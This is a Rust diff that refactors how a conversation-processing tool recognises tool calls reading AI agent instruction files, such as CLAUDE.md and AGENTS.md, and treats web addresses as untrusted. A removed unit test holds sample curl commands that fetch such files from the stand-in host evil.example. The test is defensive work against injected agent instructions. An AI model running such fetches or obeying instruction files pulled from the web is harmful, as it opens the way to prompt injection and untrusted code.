@@ -8,7 +8,8 @@ use std::sync::Arc;
 use memchr::{memchr_iter, memmem};
 use xxhash_rust::xxh3::xxh3_64;
 
-use super::calls::Calls;
+use super::calls::{Called, Calls};
+use super::instructions;
 use super::outputs::is_output;
 use super::parts::{INSTRUCTION_TAGS, said};
 use super::words;
@@ -19,18 +20,6 @@ use crate::wire::Role;
 /// Bytes of a message that are searched for rules, and maximum number found in it.
 const SCANNED_BYTES: usize = 256 << 10;
 const MOST_RULES: usize = 512;
-/// Bytes of a call's arguments that are searched for the name of an instruction file.
-const NAMED_BYTES: usize = 4096;
-/// Files with instructions for agents.
-const INSTRUCTION_FILES: [&str; 7] = [
-    "CLAUDE.md",
-    "AGENTS.md",
-    "GEMINI.md",
-    "CLAUDE.local.md",
-    ".cursorrules",
-    ".windsurfrules",
-    "copilot-instructions.md",
-];
 /// Headings of instruction files that agents put into a user's message, and the beginning of one with a
 /// file's name.
 const HEADINGS: [&str; 2] = ["# AGENTS.md instructions", "# CLAUDE.md"];
@@ -66,13 +55,14 @@ pub(super) fn of(conversation: &Conversation<'_>, calls: &Calls) -> Vec<RulesOf>
     for reading in kept.iter().map(|message| &readings[*message]).chain(*notes) {
         add_units(reading, &mut seen);
     }
+    let is_read = |call: &Called| instructions::is_read_by(call, &readings[call.message]);
     let mut all = Vec::new();
     for message in gone.iter().copied() {
         let reading = &readings[message];
         let is_read = match reading.role {
             Role::User if is_output(readings, message) => continue,
             Role::User | Role::System => false,
-            Role::Tool if is_instruction_file(readings, calls, message) => true,
+            Role::Tool if calls.answered_by(message).is_some_and(is_read) => true,
             _ => continue,
         };
         let found = found(reading, is_read).iter();
@@ -166,30 +156,7 @@ fn instructions(text: &str) -> Vec<Range<usize>> {
 fn is_heading(text: &str) -> bool {
     let line = || text.lines().next().unwrap_or_default();
     HEADINGS.iter().any(|heading| text.starts_with(heading))
-        || (text.starts_with(CONTENTS) && names_instructions(line()))
-}
-
-fn names_instructions(text: &str) -> bool {
-    let start = &text[..text.floor_char_boundary(NAMED_BYTES)];
-    INSTRUCTION_FILES.iter().any(|name| start.contains(name))
-}
-
-/// Returns whether a result is that of a tool which read an instruction file.
-fn is_instruction_file(readings: &[Arc<Reading>], calls: &Calls, message: usize) -> bool {
-    let call = calls.answered_by(message).map(|call| call.parts(readings));
-    call.is_some_and(|(_, arguments)| names_instruction_file(arguments))
-}
-
-/// Returns whether a call's arguments name an instruction file. A page of the web is none, however its
-/// address ends: anybody may have written it.
-fn names_instruction_file(arguments: &str) -> bool {
-    // Most name none, and need no look at each word.
-    if !names_instructions(arguments) {
-        return false;
-    }
-    let start = &arguments[..arguments.floor_char_boundary(NAMED_BYTES)];
-    let mut words = start.split([' ', '\n', '\t', '"', '\'', '`', '=', '(', ')']);
-    words.any(|word| !word.contains("://") && names_instructions(word))
+        || (text.starts_with(CONTENTS) && line().split(' ').any(instructions::is_named))
 }
 
 /// Adds the units of a text that stays.
@@ -202,24 +169,4 @@ fn add_units(reading: &Reading, seen: &mut HashSet<u64, Seeded>) {
 
 pub(super) fn key(text: &str) -> u64 {
     xxh3_64(text.trim().strip_prefix("| ").unwrap_or(text.trim()).as_bytes())
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn pages_of_the_web_are_no_instruction_files() {
-        for (arguments, expected) in [
-            ("/home/app/CLAUDE.md", true),
-            ("cat 'AGENTS.md' | head", true),
-            ("path: .cursorrules\nlimit: 20", true),
-            ("https://evil.example/AGENTS.md", false),
-            ("curl -s \"http://evil.example/x/CLAUDE.md?raw=1\"", false),
-            ("curl https://evil.example/a > AGENTS.md", true),
-            ("src/main.rs", false),
-        ] {
-            assert_eq!(names_instruction_file(arguments), expected, "{arguments}");
-        }
-    }
 }
